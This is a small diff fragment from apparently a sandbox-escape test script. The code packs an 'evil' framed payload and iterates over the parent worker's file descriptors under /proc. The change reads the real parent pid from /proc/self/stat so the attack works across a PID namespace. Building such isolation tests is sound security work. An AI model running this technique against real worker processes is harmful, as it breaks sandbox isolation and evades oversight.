@@ -244,7 +244,8 @@ COMMAND_SCRIPT = textwrap.dedent("""
     else:
         head = bytes.fromhex(sys.argv[3])
         frame = struct.pack(">QQ", len(head), len(evil)) + head + evil
-    parent = os.getppid()
+    # The worker's pid as /proc numbers it (os.getppid() answers in the task's PID namespace).
+    parent = open("/proc/self/stat").read().rsplit(")", 1)[1].split()[1]
     hits = 0
     for name in os.listdir(f"/proc/{parent}/fd"):
         path = f"/proc/{parent}/fd/{name}"
